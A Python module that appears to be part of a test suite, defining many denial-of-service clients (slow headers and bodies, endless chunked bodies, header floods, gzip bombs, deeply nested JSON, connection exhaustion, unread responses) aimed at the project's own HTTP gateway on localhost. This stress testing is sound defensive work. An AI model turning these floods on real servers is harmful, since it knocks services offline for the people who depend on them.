"""Hostile clients of the HTTP gateway: each function below attacks a server until it is ended.

    python http_attacks.py NAME HOST:PORT

An attack sends what it has on all its connections as fast as the server takes it, from 127.0.0.2, and connects again
when it is cut off.
"""

from __future__ import annotations

import contextlib
import gzip
import itertools
import pathlib
import socket
import struct
import sys
import threading
import time
from collections.abc import Callable, Iterable, Iterator

Address = tuple[str, int]
Batches = Callable[[], Iterable[bytes]]

HOST = b"Host: localhost\r\n"
JSON = b"Content-Type: application/json\r\n"
BYTES = b"Content-Type: application/octet-stream\r\n"
CHUNKS = b"/v1/rounds/none/chunks?client_id=h&submission_id=s&tensor=w"
MIB = 1 << 20


def get(path: bytes, headers: bytes = b"") -> bytes:
    return b"GET " + path + b" HTTP/1.1\r\n" + HOST + headers + b"\r\n"


def post(path: bytes, headers: bytes, size: int) -> bytes:
    """The head of a request with a body."""
    return b"POST " + path + b" HTTP/1.1\r\n" + HOST + headers + b"Content-Length: %d\r\n\r\n" % size


def connected(address: Address, source: str = "127.0.0.2") -> socket.socket:
    return socket.create_connection(address, timeout=5, source_address=(source, 0))


def drain(peer: socket.socket) -> None:
    """Takes and drops all that the server sends, until it closes."""
    with contextlib.suppress(OSError):
        while peer.recv(1 << 16):
            pass


def on_threads(one: Callable[[], None], number: int) -> None:
    """Runs the function again and again on each of some threads."""

    def forever() -> None:
        while True:
            with contextlib.suppress(OSError):
                one()
            time.sleep(0.01)

    for _ in range(number - 1):
        threading.Thread(target=forever, daemon=True).start()
    forever()


def flood(address: Address, batches: Batches, connections: int = 4, reads: bool = True) -> None:
    """Sends the batches on each of the connections, again and again."""

    def one() -> None:
        with connected(address) as peer:
            if reads:
                threading.Thread(target=drain, args=(peer,), daemon=True).start()
            for batch in batches():
                peer.sendall(batch)

    on_threads(one, connections)


def drip(address: Address, begin: bytes, piece: bytes, connections: int = 200) -> None:
    """Sends a piece on each of many connections now and then; connects again where one was closed."""
    peers: list[socket.socket] = []
    while True:
        for peer in peers[:]:
            try:
                peer.send(piece)
            except OSError:
                peers.remove(peer)
                peer.close()
        with contextlib.suppress(OSError):
            while len(peers) < connections:
                peers.append(connected(address))
                peers[-1].setblocking(False)
                peers[-1].send(begin)
        time.sleep(0.1)


def endless(begin: bytes, piece: bytes) -> Batches:
    def batches() -> Iterator[bytes]:
        yield begin
        yield from itertools.repeat(piece * max(1, (1 << 16) // len(piece)))

    return batches


def slow_headers(address: Address) -> None:
    """Heads that come byte by byte."""
    drip(address, b"GET / HTTP/1.1\r\nX-Slow: ", b"x")


def slow_bodies(address: Address) -> None:
    """Bodies of a MiB that come byte by byte."""
    drip(address, post(CHUNKS, BYTES, MIB), b"x")


def unfinished_bodies(address: Address) -> None:
    """Bodies of 4 MiB, each without its last byte."""

    def batches() -> Iterator[bytes]:
        yield post(CHUNKS, BYTES, 4 * MIB)
        yield bytes(4 * MIB - 1)
        time.sleep(1e6)

    flood(address, batches, connections=100)


def bodies(address: Address) -> None:
    """Bodies of 4 MiB for a round that is not there."""
    whole = post(CHUNKS, BYTES, 4 * MIB) + bytes(4 * MIB)
    flood(address, endless(b"", whole), connections=32)


def huge_bodies(address: Address) -> None:
    """Bodies that are declared with a TiB, and sent."""
    flood(address, endless(post(CHUNKS, BYTES, 1 << 40), bytes(1 << 16)))


def endless_chunks(address: Address) -> None:
    """Chunked bodies without an end."""
    head = b"POST " + CHUNKS + b" HTTP/1.1\r\n" + HOST + BYTES + b"Transfer-Encoding: chunked\r\n\r\n"
    flood(address, endless(head, b"1000\r\n" + bytes(0x1000) + b"\r\n"))


def huge_header(address: Address) -> None:
    """A header without an end."""
    flood(address, endless(b"GET / HTTP/1.1\r\nX-Long: ", b"x"))


def many_headers(address: Address) -> None:
    """Headers without an end."""
    flood(address, endless(b"GET / HTTP/1.1\r\n", b"a: b\r\n"))


def full_headers(address: Address) -> None:
    """Requests with as many headers as there may be."""
    flood(address, endless(b"", get(b"/v1/info", b"a: b\r\n" * 2700)), reads=True)


def pipelined(address: Address) -> None:
    """Requests one after the other, whose responses are read."""
    flood(address, endless(b"", get(b"/v1/info")))


def pipelined_unread(address: Address) -> None:
    """The same on 100 connections that read nothing."""
    flood(address, endless(b"", get(b"/v1/info")), connections=100, reads=False)


def pages_unread(address: Address) -> None:
    """Requests for the largest page, whose responses are not read."""
    flood(address, endless(b"", get(b"/v1/openapi.json")), connections=100, reads=False)


def connects(address: Address) -> None:
    """Connections that are opened and closed, or reset, as fast as possible."""

    def one() -> None:
        for kind in range(100):
            with connected(address) as peer:
                if kind % 2:
                    peer.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))

    on_threads(one, 4)


def idle(address: Address) -> None:
    """Connections that do nothing, from eight addresses, each as many as it may have."""
    peers: list[socket.socket] = []
    while True:
        for host in range(2, 10):
            with contextlib.suppress(OSError):
                peers.append(connected(address, f"127.0.0.{host}"))
        if len(peers) > 2000:
            peers.pop(0).close()
            time.sleep(0.01)


def compressed(address: Address) -> None:
    """A body of 64 MiB, compressed."""
    body = gzip.compress(bytes(64 * MIB))
    whole = post(CHUNKS, BYTES + b"Content-Encoding: gzip\r\n", len(body)) + body
    flood(address, lambda: [whole])


def deep_json(address: Address) -> None:
    """JSON of a MiB of brackets."""
    for_lists = post(b"/v1/rounds", JSON, MIB) + b"[" * MIB
    body = b'{"spec":' * (MIB // 8)
    for_objects = post(b"/v1/rounds", JSON, len(body)) + body
    flood(address, endless(b"", for_lists + for_objects))


def wide_json(address: Address) -> None:
    """JSON of 4 MiB of small objects, each a message of its own."""
    body = b'{"spec":{"tensors":[' + b"{}," * (4 * MIB // 3) + b"{}]}}"
    flood(address, endless(b"", post(b"/v1/rounds", JSON, len(body)) + body), connections=16)


def half_closed(address: Address) -> None:
    """Requests, whole and in part, after which the client closes its half, and reads nothing."""
    kept: list[socket.socket] = []
    requests = itertools.cycle([get(b"/v1/openapi.json"), b"GET /v1/info HT", post(CHUNKS, BYTES, MIB) + bytes(1000)])

    def one() -> None:
        kept.append(connected(address))
        kept[-1].sendall(next(requests))
        kept[-1].shutdown(socket.SHUT_WR)
        if len(kept) > 200:
            kept.pop(0).close()

    on_threads(one, 1)


def upgrades(address: Address) -> None:
    """Requests to speak WebSocket or HTTP/2, and then frames of those."""
    websocket = get(
        b"/v1/info",
        b"Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\n"
        b"Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n",
    )
    h2c = get(b"/v1/info", b"Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABk\r\n")
    preface = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + bytes(9)
    flood(address, lambda: [websocket, b"\x81\x85" + bytes(9), h2c, preface * 1000])


def abandoned_polls(address: Address) -> None:
    """Calls that wait for a task, whose clients leave at once."""
    body = b'{"clientId":"h","leaseId":"l","labels":["none"],"timeout":"60s"}'
    whole = post(b"/v1/tasks:lease", JSON, len(body)) + body

    def one() -> None:
        for _ in range(100):
            with connected(address) as peer:
                peer.sendall(whole)

    on_threads(one, 4)


def crowd(address: Address, begin: Callable[[int], bytes], hosts: int = 1) -> None:
    """Keeps 1200 connections open from each of some addresses, or tries to; ``begin``: what the n-th one sends."""

    def one(source: str, numbers: Iterator[int]) -> None:
        peers: list[socket.socket] = []
        while True:
            for peer in peers[:]:
                try:
                    ended = peer.recv(1 << 16) == b""
                except BlockingIOError:
                    ended = False
                except OSError:
                    ended = True
                if ended:
                    peers.remove(peer)
                    peer.close()
            with contextlib.suppress(OSError):
                while len(peers) < 300:
                    peers.append(connected(address, source))
                    peers[-1].setblocking(False)
                    peers[-1].send(begin(next(numbers)))
            time.sleep(0.01)

    threads = [
        threading.Thread(target=one, args=(f"127.0.0.{2 + host}", itertools.count(4 * host + i, 4 * hosts)))
        for host in range(hosts)
        for i in range(4)
    ]
    for thread in threads:
        thread.start()


def unfinished_body(_: int) -> bytes:
    return post(CHUNKS, BYTES, 4 * MIB) + bytes(1000)


def poll(number: int) -> bytes:
    body = b'{"clientId":"h%d","leaseId":"l","labels":["none"],"timeout":"60s"}' % number
    return post(b"/v1/tasks:lease", JSON, len(body)) + body


def unfinished_head(_: int) -> bytes:
    return b"GET / HTTP/1.1\r\nX-Slow: "


def crowded_bodies(address: Address) -> None:
    """Bodies that never end, on as many connections as an address gets."""
    crowd(address, unfinished_body)


def crowded_polls(address: Address) -> None:
    """The same with calls that wait for a task."""
    crowd(address, poll)


def crowded_heads(address: Address) -> None:
    """The same with heads that never end."""
    crowd(address, unfinished_head)


def crowds_of_bodies(address: Address) -> None:
    """Bodies that never end, from four addresses, which together may have more than all connections."""
    crowd(address, unfinished_body, hosts=4)


def crowds_of_polls(address: Address) -> None:
    """The same with calls that wait for a task."""
    crowd(address, poll, hosts=4)


def unread_results(address: Address) -> None:
    """Requests for pages of a large result, which are not read."""
    size = MIB
    spec = b'{"tensors":[{"name":"w","dtype":"DTYPE_FLOAT32","num_rows":%d}]}' % size

    def call(head: Callable[[int], bytes], body: bytes) -> None:
        with connected(address) as peer:
            peer.sendall(head(len(body)) + body)
            peer.recv(1 << 16)

    keys = b"".join(key.to_bytes(4, "little") for key in range(size // 4))
    chunk = b"/v1/rounds/big/chunks?client_id=h&submission_id=s&last=true&tensor=w&key_encoding=U32&key_bytes=%d"
    call(lambda n: post(b"/v1/rounds", JSON, n), b'{"roundId":"big","spec":' + spec + b"}")
    call(lambda n: post(chunk % len(keys), BYTES, n), keys + bytes(len(keys)))
    call(lambda n: post(b"/v1/rounds/big/submissions", JSON, n), b'{"clientId":"h","submissionId":"s"}')
    call(lambda n: post(b"/v1/rounds/big:close", JSON, n), b"")
    flood(address, endless(b"", get(b"/v1/rounds/big/result?max_page_bytes=%d" % size)), connections=100, reads=False)


ATTACKS: dict[str, Callable[[Address], None]] = {
    attack.__name__: attack
    for attack in (
        slow_headers, slow_bodies, unfinished_bodies, bodies, huge_bodies, endless_chunks, huge_header, many_headers,
        full_headers, pipelined, pipelined_unread, pages_unread, connects, idle, compressed, deep_json, wide_json,
        half_closed, upgrades, abandoned_polls, unread_results,
        crowded_bodies, crowded_polls, crowded_heads, crowds_of_bodies, crowds_of_polls,
    )
}  # fmt: skip


def command(name: str, address: str) -> list[str]:
    """The command line of an attack."""
    return [sys.executable, str(pathlib.Path(__file__)), name, address]


if __name__ == "__main__":
    host, _, port = sys.argv[2].rpartition(":")
    ATTACKS[sys.argv[1]]((host, int(port)))
